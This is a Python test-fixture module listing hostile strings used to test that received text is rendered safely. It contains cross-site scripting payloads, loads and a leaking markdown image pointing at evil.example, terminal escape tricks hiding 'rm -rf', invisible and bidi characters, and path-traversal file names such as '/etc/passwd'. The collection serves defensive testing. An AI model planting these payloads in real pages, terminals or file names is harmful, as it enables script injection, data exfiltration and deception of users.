"""Strings that attack a page, a terminal or a file, or hide text.

Every place that shows received text is tested with all of them. Their scripts call ``alert``, and
their loads request ``evil.example``.
"""

from __future__ import annotations

__all__ = ["BLANKS", "GIANT", "HOSTILE", "MARKDOWN", "NAMES"]

RUN = "alert(1)"

MARKUP = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={RUN}>",
    "<img src=//evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<math><mtext><style><img src onerror={RUN}></style></mtext></math>",
    f"<math><mtext><script>{RUN}</script>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src=javascript:{RUN}>",
    "<iframe src=//evil.example></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    f"</style><script>{RUN}</script>",
    "</title><style>*{display:none}</style>",
    "</span></div></details><h1>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src onerror={RUN}>'>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f"` onmouseover=`{RUN}",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    "&lt;b&gt;&amp;&#60;script&#62;",
    "&#x3C;script&#x3E;",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "]]>",
    "<!--",
    f"--><script>{RUN}</script>",
    "<?php echo 1 ?>",
    "<" * 200,
    "background:url(//evil.example/x)",
    "0%; } * { background: url(//evil.example/y.png) } {",
    f'{{"a": "</script><script>{RUN}</script>"}}',
    "__proto__",
]
TEMPLATES = [
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "<%= 7*7 %>",
    f"$$\\require{{html}}\\href{{javascript:{RUN}}}{{x}}$$",
    f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\unicode{{x202e}}\\)",
    "$x_{$ \\frac{ $$",
]
MARKDOWN = [
    "![x](//evil.example/pixel.png)",
    "![secret](https://evil.example/?leak)",
    f"[x](javascript:{RUN}) <javascript:{RUN}>",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    "[click](vbscript:x)",
    f"[x](https://a.example 'onmouseover=\"{RUN}')",
    f'```"><script>{RUN}</script>\ncode\n```',
    "| a | b |\n|---|---|\n| <b onclick=x> | ![i](//evil.example/i.png) |",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    "&#x202e;gpj.exe &#8203; &ZeroWidthSpace; &shy; &#27;[31m",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[H\x1b[?1049h",
    "\x9b31m",
    "\x9d8;;http://evil.example\x9clink",
    "\x00\x07\r\x08",
    "all is well\r\x1b[Krm -rf",
    "rm -rf\x08\x08\x08\x08\x08\x08ls    ",
]
TURNED = [
    "\u202egpj.exe",
    "\u2066x\u2069\u2067y\u2069",
    "\u200f\u200e\u061c",
]
# Invisible characters: a token of one of them must be visible.
BLANKS = [
    "\u200b",
    "\u2060\ufeff",
    "\u200d\ufe0f",
    "\u3164\u115f\uffa0",
    "\u034f\u17b4",
    "\U000e0041\U000e0042",
    "\U000e0101\U000e01ef",
    "\U0001d173\ufff0",
    "\u2028\u2029",
]
UNSEEN = [
    *BLANKS,
    "a\u200bb\u200cc\u2060d\ufeff",
    "in\xadvis\u2060ible\u3164\u115f\u180e",
    "\U0001f600" + "".join(chr(0xE0100 + code) for code in b"rm -rf"),
    "\u0430pple.com p\u0430ypal",  # homographs are shown unchanged
]
GIANT = "x" * 1_000_000
HOSTILE = [*MARKUP, *TEMPLATES, *MARKDOWN, *TERMINAL, *TURNED, *UNSEEN, "", GIANT]

# Only for names.
NAMES = [
    "../../evil",
    "/etc/passwd",
    "..",
    "a/b\\c",
    "con",
    "-c",
    "a\nb",
    "%run x",
    "'; x",
    "n" * 5000,
]
